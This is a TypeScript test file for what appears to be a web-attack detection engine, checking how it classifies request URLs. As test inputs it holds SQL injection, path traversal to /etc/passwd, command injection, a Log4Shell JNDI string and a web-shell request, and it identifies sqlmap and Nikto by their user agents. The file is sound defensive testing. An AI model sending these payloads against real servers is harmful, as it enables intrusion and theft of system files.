// What one request attempts, and the benign look-alikes that must stay benign.
import { describe, expect, it } from 'vitest';
import { classifyRequest, decodeTarget, pathKey } from '../../../../electron/engine/detect/web/request';
import { isCrawler, toolOf } from '../../../../electron/engine/detect/web/tools';

const t = (url: string) => classifyRequest(url).techniques;

describe('web request classification', () => {
  it('leaves searches, product names and ordinary pages alone', () => {
    for (const url of [
      '/search.php?q=select+chair',
      '/search?q=union+jack+flag',
      '/product/union-jack-flag',
      '/product/select-chair-deluxe',
      '/search.php?q=order+by+price',
      "/search.php?q=kids'+table",
      '/search?q=drop+leaf+table',
      '/search?q=%E5%92%8C%E5%AE%A4+%E6%A4%85%E5%AD%90',
      '/catalog/../sale/',
      '/uploads/photo-12.jpg',
      '/index.php?page=2&sort=name',
    ]) expect(t(url), url).toEqual([]);
  });

  it('names SQL injection, encoded or not, in the query and in sqlmap forms', () => {
    expect(t('/products.php?id=1%20UNION%20ALL%20SELECT%20NULL,NULL--%20-')).toContain('sqli');
    expect(t("/products.php?id=7'+AND+SLEEP(5)--+-")).toContain('sqli');
    expect(t("/login.php?user=admin'%20or%20'1'='1")).toContain('sqli');
    expect(t('/item?id=-3%2520UNION%2520SELECT%2520username%252Cpassword%2520FROM%2520users')).toContain('sqli');
    expect(t('/x.asp?id=1;EXEC xp_cmdshell \'dir\'')).toContain('sqli');
  });

  it('names path traversal in plain, encoded, double-encoded and overlong forms', () => {
    for (const url of ['/download.php?file=../../../../etc/passwd', '/download.php?file=..%2f..%2f..%2fetc%2fpasswd', '/d?f=..%252f..%252fwindows%252fwin.ini', '/d?f=....//....//etc/passwd', '/scripts/..%c0%af..%c0%afwinnt/system32/cmd.exe', '/view?file=/etc/passwd']) {
      expect(t(url), url).toContain('traversal');
    }
  });

  it('names command injection and known RCE payloads', () => {
    expect(t('/ping.php?host=example.com;id')).toContain('cmdi');
    expect(t('/ping.php?host=example.com%7Cwhoami')).toContain('cmdi');
    expect(t('/ping.php?host=x%26%26cat+/etc/passwd')).toContain('cmdi');
    expect(t('/?x=${jndi:ldap://203.0.113.5/a}')).toContain('cmdi');
  });

  it('marks scripts under writable folders and reads their commands decoded', () => {
    const v = classifyRequest('/wp-content/uploads/2026/11/img_2291.php?cmd=cat%20%2Fetc%2Fpasswd');
    expect(v.writableScript).toBe(true);
    expect(v.commands).toEqual(['cat /etc/passwd']);
    expect(classifyRequest('/uploads/thumb.php?img=123.jpg&w=200').commands).toEqual([]);
    expect(classifyRequest('/app/index.php?cmd=whoami').writableScript).toBe(false);
  });

  it('splits a proxy absolute URL into path and parameters', () => {
    expect(pathKey('http://shop.example:8080/a/b.php?x=1')).toBe('/a/b.php');
    expect(decodeTarget('/a%20b?q=1+2&r=%2541').params).toEqual([['q', '1 2'], ['r', 'A']]);
  });

  it('knows attack tools and crawlers by their agents', () => {
    expect(toolOf('sqlmap/1.7.11#stable (https://sqlmap.org)')).toBe('sqlmap');
    expect(toolOf('Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)')).toBe('Nikto');
    expect(toolOf('Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)')).toBeNull();
    expect(isCrawler('Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)')).toBe(true);
  });
});
